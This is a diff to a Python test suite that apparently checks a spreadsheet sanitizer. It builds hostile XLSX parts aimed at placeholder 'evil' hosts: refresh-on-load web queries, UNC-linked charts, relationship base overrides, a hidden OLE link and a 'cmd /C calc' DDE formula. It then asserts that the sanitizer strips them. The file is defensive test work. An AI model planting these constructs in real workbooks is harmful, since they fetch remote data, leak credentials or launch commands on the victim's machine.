@@ -150,10 +150,125 @@ def instructions(parts: Parts) -> None:
     parts[SHEET] = parts[SHEET].replace(b"<worksheet", b'<?xml-stylesheet href="http://evil/x.xsl"?><worksheet', 1)
 
 
+def table_of_a_query(parts: Parts) -> None:
+    """A table that is filled by a connection, with both its parts."""
+    declare(parts, "xl/connections.xml", f"{SPREAD}.connections+xml", CONNECTION.encode())
+    relate(parts, BOOK, "connections", "connections.xml", outside=False)
+    declare(parts, "xl/tables/table9.xml", permitted.TABLE, QUERIED.encode())
+    identity = relate(parts, SHEET, "table", "/xl/tables/table9.xml", outside=False)
+    before(parts, SHEET, "</worksheet>", f'<tableParts count="1"><tablePart r:id="{identity}"/></tableParts>')
+    declare(parts, "xl/queryTables/queryTable1.xml", f"{SPREAD}.queryTable+xml", QUERY.encode())
+    relate(parts, "xl/tables/table9.xml", "queryTable", "/xl/queryTables/queryTable1.xml", outside=False)
+    before(parts, SHEET, "</sheetData>", '<row r="900"><c r="A900" t="str"><v>Số</v></c></row>')
+
+
+def chart_of(inside: str, formula: str = "'Biểu 2 - Số liệu'!$D$7", mode: str = "External") -> Callable[[Parts], None]:
+    """A chart on the sheet; `{}` in it is a relation of the chart to another book."""
+
+    def change(parts: Parts) -> None:
+        chart, drawing = "xl/charts/chart9.xml", "xl/drawings/drawing9.xml"
+        parts[chart] = b""
+        identity = relate(parts, chart, "oleObject", "file:///\\\\evil\\share\\book.xlsx")
+        rels = "xl/charts/_rels/chart9.xml.rels"
+        parts[rels] = parts[rels].replace(b'"External"', f'"{mode}"'.encode())
+        declare(parts, chart, permitted.CHART, CHART.format(formula, inside.format(identity)).encode())
+        declare(parts, drawing, permitted.DRAWN, b"")
+        parts[drawing] = FRAME.format(relate(parts, drawing, "chart", f"/{chart}", outside=False)).encode()
+        identity = relate(parts, SHEET, "drawing", f"/{drawing}", outside=False)
+        before(parts, SHEET, "</worksheet>", f'<drawing r:id="{identity}"/>')
+
+    return change
+
+
+def property_of(text: str) -> Callable[[Parts], None]:
+    return lambda parts: before(parts, "docProps/app.xml", "</Properties>", text)
+
+
+def custom_properties(parts: Parts) -> None:
+    kind = "application/vnd.openxmlformats-officedocument.custom-properties+xml"
+    data = (
+        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties">evil</Properties>'
+    )
+    declare(parts, "docProps/custom.xml", kind, data.encode())
+    relate(parts, "", "custom-properties", "docProps/custom.xml", outside=False)
+
+
+def written_as(mode: str, change: Callable[[Parts], None]) -> Callable[[Parts], None]:
+    """The same with the mode of its relations written otherwise."""
+
+    def changed(parts: Parts) -> None:
+        change(parts)
+        for name in [name for name in parts if name.endswith(".rels")]:
+            parts[name] = parts[name].replace(b'TargetMode="External"', mode.encode())
+
+    return changed
+
+
+def twice(is_first: bool) -> Callable[[Parts], None]:
+    """Two relations under one id: to the sheet's table, and out of the book."""
+
+    def change(parts: Parts) -> None:
+        declare(parts, "xl/tables/table9.xml", permitted.TABLE, QUERIED.encode())
+        inner = relate(parts, SHEET, "table", "/xl/tables/table9.xml", outside=False)
+        before(parts, SHEET, "</worksheet>", f'<tableParts count="1"><tablePart r:id="{inner}"/></tableParts>')
+        rels = f"xl/worksheets/_rels/{SHEET.rpartition('/')[2]}.rels"
+        other = f'<Relationship Id="{inner}" Type="{OFFICE}/table" Target="http://evil/" TargetMode="External"/>'
+        mark = f'<Relationship Id="{inner}"' if is_first else "</Relationships>"
+        before(parts, rels, mark, other)
+
+    return change
+
+
+def relations_with(attributes: str, inside: str = "") -> Callable[[Parts], None]:
+    """The relations of the book with something about them that none has."""
+
+    def change(parts: Parts) -> None:
+        rels = "xl/_rels/workbook.xml.rels"
+        parts[rels] = parts[rels].replace(b"<Relationships ", f"<Relationships {attributes} ".encode())
+        if inside:
+            parts[rels] = parts[rels].replace(b"/>", f">{inside}</Relationship>".encode(), 1)
+
+    return change
+
+
+def unwrapped(parts: Parts) -> None:
+    """What a reader of extensions puts in the place of the element around it."""
+    space = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:y="http://evil"'
+    inner = '<oleObjects><oleObject progId="Word.Document" link="[1]!evil" shapeId="1"/></oleObjects>'
+    before(parts, SHEET, "</worksheet>", f'<y:extLst {space} mc:ProcessContent="y:extLst">{inner}</y:extLst>')
+
+
+_SPREAD_SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+_DRAWING_SPACE = "http://schemas.openxmlformats.org/drawingml/2006"
+CONNECTION = (
+    f'<connections xmlns="{_SPREAD_SPACE}"><connection id="1" name="evil" type="4" refreshedVersion="6" '
+    'refreshOnLoad="1"><webPr url="http://evil/"/></connection></connections>'
+)
+QUERY = f'<queryTable xmlns="{_SPREAD_SPACE}" name="evil" connectionId="1" refreshOnLoad="1"/>'
+QUERIED = (
+    f'<table xmlns="{_SPREAD_SPACE}" id="9" name="T9" displayName="T9" ref="A900:A901" tableType="queryTable">'
+    '<tableColumns count="1"><tableColumn id="1" name="Số" uniqueName="1" queryTableFieldId="1"/></tableColumns>'
+    "</table>"
+)
+CHART = (
+    f'<c:chartSpace xmlns:c="{_DRAWING_SPACE}/chart" xmlns:a="{_DRAWING_SPACE}/main" xmlns:r="{OFFICE}">'
+    "<c:chart><c:plotArea><c:layout/><c:pieChart><c:varyColors val='1'/><c:ser><c:idx val='0'/><c:order val='0'/>"
+    "<c:val><c:numRef><c:f>{}</c:f></c:numRef></c:val></c:ser></c:pieChart></c:plotArea></c:chart>{}</c:chartSpace>"
+)
+FRAME = (
+    f'<xdr:wsDr xmlns:xdr="{_DRAWING_SPACE}/spreadsheetDrawing" xmlns:a="{_DRAWING_SPACE}/main" xmlns:r="{OFFICE}">'
+    "<xdr:absoluteAnchor><xdr:pos x='0' y='0'/><xdr:ext cx='99999' cy='99999'/><xdr:graphicFrame macro=''>"
+    "<xdr:nvGraphicFramePr><xdr:cNvPr id='2' name='c'/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr>"
+    "<xdr:xfrm><a:off x='0' y='0'/><a:ext cx='0' cy='0'/></xdr:xfrm>"
+    f"<a:graphic><a:graphicData uri='{_DRAWING_SPACE}/chart'><c:chart xmlns:c='{_DRAWING_SPACE}/chart' r:id='{{}}'/>"
+    "</a:graphicData></a:graphic></xdr:graphicFrame><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>"
+)
+LINKED = '<c:externalData r:id="{}"><c:autoUpdate val="1"/></c:externalData>'
 OLE = '<oleObjects><oleObject progId="Package" shapeId="1" r:id="{}"/></oleObjects>'
 CONTROL = '<controls><control shapeId="1" r:id="{}" name="x"/></controls>'
 SHAPE = '<v:shape id="_x0000_s1025" {}><x:ClientData ObjectType="Button">{}</x:ClientData></v:shape>'
 RULE = '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="9"><formula>{}</formula></cfRule>'
+MODES = ('TargetMode="external"', 'TargetMode="EXTERNAL"', 'TargetMode=" External "', 'targetMode="External"')
 HOSTILE: dict[str, Callable[[Parts], None]] = {
     "dde in a cell": in_cell("<f>cmd|' /C calc'!A0</f><v>0</v>"),
     "dde of libreoffice": in_cell('<f>DDE("soffice";"x";"a")</f><v>0</v>'),
@@ -191,9 +306,28 @@ HOSTILE: dict[str, Callable[[Parts], None]] = {
     "picture from outside": shapes('<v:shape id="_x0000_s1025"><v:imagedata src="\\\\evil\\x.png"/></v:shape>'),
     "instructions": instructions,
     "unknown kind": part_of(BOOK, "http://evil.example/worksheet", "xl/evil.xml", f"{SPREAD}.worksheet+xml"),
+    "query table": part_of(SHEET, "queryTable", "xl/queryTables/queryTable2.xml", f"{SPREAD}.queryTable+xml"),
+    "table of a query": table_of_a_query,
+    "chart of another book": chart_of(LINKED),
+    "chart of another book, in small letters": chart_of(LINKED, mode="external"),
+    "figures of a chart from another book": chart_of("", "[1]S!$A$1"),
+    "shapes of a chart": chart_of('<c:userShapes r:id="{}"/>'),
+    "link on a chart": chart_of('<c:txPr><a:hlinkClick r:id="{}"/></c:txPr>'),
+    **{f"link with {mode}": written_as(mode, link_of("https://evil.example/")) for mode in MODES},
+    **{f"book with {mode}": written_as(mode, external_book) for mode in MODES},
+    "base of all links": property_of("<HyperlinkBase>http://evil/</HyperlinkBase>"),
+    "list of links": property_of("<HLinks>evil</HLinks>"),
+    "own properties": custom_properties,
+    "one id twice, out first": twice(True),
+    "one id twice, out last": twice(False),
+    "base of all relations": relations_with('xml:base="http://evil/"'),
+    "relation in a relation": relations_with(
+        "", f'<Relationship Id="e" Type="{OFFICE}/hyperlink" Target="http://evil/" TargetMode="External"/>'
+    ),
+    "ole in a wrapping": unwrapped,
     "unknown element": lambda parts: before(parts, SHEET, "</worksheet>", "<webPublishItems count='0'/>"),
 }
-SILENT = {"instructions"}
+SILENT = {"instructions", "base of all links", "list of links", "own properties", "base of all relations"}
 
 
 def look_through(parts: Parts) -> None:
@@ -206,9 +340,14 @@ def look_through(parts: Parts) -> None:
         assert name == "[Content_Types].xml" or name.rpartition(".")[2] in {*permitted.EXTENSIONS, "rels"}
         assert b"<script" not in data
         if name.endswith(".rels"):
-            for item in etree.fromstring(data):
+            root = etree.fromstring(data)
+            assert not root.attrib
+            assert len({item.get("Id") for item in root}) == len(root)
+            for item in root:
                 assert item.get("Type") in permitted.RELATIONS
                 assert item.get("TargetMode") in (None, "Internal")
+                assert set(item.attrib) <= {"Id", "Type", "Target", "TargetMode"}
+                assert not len(item)
         elif name.endswith((".xml", ".vml")):
             _look_at(etree.fromstring(data), data)
 
@@ -218,7 +357,9 @@ def _look_at(root: etree._Element, data: bytes) -> None:
         local = str(item.tag).rpartition("}")[2]
         assert isinstance(item.tag, str)
         assert local not in {"oleObject", "control", "externalReference", "connection", "webPublishItems"}
-        assert local not in {"FmlaMacro", "hlinkClick"}
+        assert local not in {"FmlaMacro", "hlinkClick", "externalData", "userShapes", "HyperlinkBase", "HLinks"}
+        assert not {"connectionId", "queryTableFieldId", "link"} & set(item.attrib)
+        assert item.get("tableType") is None
         assert not item.get("href")
         if local in {"f", "formula", "formula1", "definedName"}:
             assert not re.search(r"\[|\||!A0|EVIL|evil|WEBSERVICE|HYPERLINK|DDE", item.text or "")
